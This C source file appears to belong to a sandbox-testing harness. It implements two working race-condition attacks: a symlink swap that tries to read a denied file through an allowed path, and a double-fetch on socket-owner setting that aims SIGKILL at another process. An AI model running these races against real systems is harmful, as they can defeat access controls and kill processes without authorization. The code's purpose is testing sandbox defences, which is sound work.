/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * attack's race ops: a symlink swapped between an allowed and a denied
 * file while the sandboxed process reads it, and a file owner flipped in
 * user memory while the kernel reads it.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"
#include "oplist.h"

/*
 * race-symlink LINK GOOD BAD N: a child swaps LINK between GOOD and BAD
 * (rename over it) while this process opens and reads LINK N times; info:
 * "read BAD K times" (K must be 0 in a sandbox denied BAD).
 */
int op_race(int op, char **arg, char *info)
{
	char tmp[4096], want[256], buf[256];
	long n = strtol(arg[3], NULL, 10), i, bad = 0, good = 0;
	int fd, wl;
	ssize_t len;
	pid_t pid;

	(void)op;
	fd = open(arg[1], O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return err();
	len = read(fd, want, sizeof(want));
	close(fd);
	wl = len < 0 ? 0 : (int)len;
	snprintf(tmp, sizeof(tmp), "%s.swap", arg[0]);
	pid = fork();
	if (pid < 0)
		return err();
	if (pid == 0) {
		for (;;) {
			unlink(tmp);
			if (symlink(arg[2], tmp) == 0)
				rename(tmp, arg[0]);
			unlink(tmp);
			if (symlink(arg[1], tmp) == 0)
				rename(tmp, arg[0]);
		}
	}
	for (i = 0; i < n; i++) {
		fd = open(arg[0], O_RDONLY | O_CLOEXEC);
		if (fd < 0)
			continue;
		len = read(fd, buf, sizeof(buf));
		close(fd);
		if (len == wl && !memcmp(buf, want, (size_t)wl))
			good++;
		else if (len > 0)
			bad++;
	}
	kill(pid, SIGKILL);
	waitpid(pid, NULL, 0);
	snprintf(info, INFO_LEN, "read BAD %ld times%s", bad,
		 good ? "" : " (GOOD never read)");
	return 0;
}

/*
 * race-setown-ex, race-setown-pgrp, race-fiosetown, race-siocspgrp
 * VICTIM N: the double fetch of issue 33.  A socket is armed to SIGKILL
 * its owner, owned by this process; then up to N times the owner is set
 * again through user memory that a second thread flips between this
 * process and VICTIM (race-setown-pgrp: between no owner and VICTIM's
 * process group, which must be VICTIM's own).  A check that
 * reads the value once sees this process, the kernel reads it again and
 * sees VICTIM.  Once the owner is VICTIM the socket is made ready, which
 * fires the signal, and the op stops; info: "won after K tries" or "not
 * won in N tries".  Whether VICTIM lives is for the caller to see.
 */
struct fown_race {
	struct f_owner_ex ex;   /* F_SETOWN_EX's argument */
	int who;                /* FIOSETOWN's and SIOCSPGRP's */
	struct f_owner_ex a, b; /* the two values it is flipped between */
	volatile int stop;
};

static void *fown_flip(void *p)
{
	struct fown_race *r = p;
	volatile struct f_owner_ex *ex = &r->ex;
	volatile int *who = &r->who;

	while (!r->stop) {
		ex->type = r->a.type;
		ex->pid = r->a.pid;
		*who = r->a.pid;
		ex->type = r->b.type;
		ex->pid = r->b.pid;
		*who = r->b.pid;
	}
	return NULL;
}

/* The owner of @fd is @victim (a process, or a group led by it). */
static int owned_by(int fd, pid_t victim)
{
	struct f_owner_ex ex;

	return fcntl(fd, F_GETOWN_EX, &ex) == 0 && ex.pid == victim;
}

static int set_owner(int op, int fd, struct fown_race *r)
{
	switch (op) {
	case OP_RACE_FIOSETOWN:
		return ioctl(fd, FIOSETOWN, &r->who);
	case OP_RACE_SIOCSPGRP:
		return ioctl(fd, SIOCSPGRP, &r->who);
	default:
		return fcntl(fd, F_SETOWN_EX, &r->ex);
	}
}

int op_race_fown(int op, char **arg, char *info)
{
	static struct fown_race r;
	pid_t victim = (pid_t)strtol(arg[0], NULL, 10);
	long n = strtol(arg[1], NULL, 10), i, won = 0;
	pthread_t th;
	char c;
	int p[2];

	r.a = (struct f_owner_ex){ F_OWNER_PID, getpid() };
	r.b = (struct f_owner_ex){ F_OWNER_PID, victim };
	if (op == OP_RACE_SETOWN_PGRP) {
		if (getpgid(victim) != victim)
			return ESRCH;   /* its group holds others: never aim there */
		/* a group of 0 clears the owner, which any check allows */
		r.a = (struct f_owner_ex){ F_OWNER_PGRP, 0 };
		r.b.type = F_OWNER_PGRP;
	}
	r.ex = r.a;
	r.who = r.a.pid;
	if (socketpair(AF_UNIX, SOCK_STREAM, 0, p) < 0 ||
	    fcntl(p[0], F_SETOWN, getpid()) < 0 ||
	    fcntl(p[0], F_SETSIG, SIGKILL) < 0 ||
	    fcntl(p[0], F_SETFL, fcntl(p[0], F_GETFL) | O_ASYNC) < 0)
		return err();
	r.stop = 0;
	if (pthread_create(&th, NULL, fown_flip, &r))
		return EAGAIN;
	for (i = 1; i <= n && !won; i++) {
		if (set_owner(op, p[0], &r) == 0 && owned_by(p[0], victim)) {
			won = i;
			if (write(p[1], "x", 1) == 1)
				usleep(200000);
		}
	}
	r.stop = 1;
	pthread_join(th, NULL);
	/* never fire at ourselves on the way out */
	fcntl(p[0], F_SETFL, fcntl(p[0], F_GETFL) & ~O_ASYNC);
	fcntl(p[0], F_SETOWN, 0);
	if (won && read(p[0], &c, 1) < 0)
		return err();
	close(p[0]);
	close(p[1]);
	if (won)
		snprintf(info, INFO_LEN, "won after %ld tries", won);
	else
		snprintf(info, INFO_LEN, "not won in %ld tries", n);
	return 0;
}
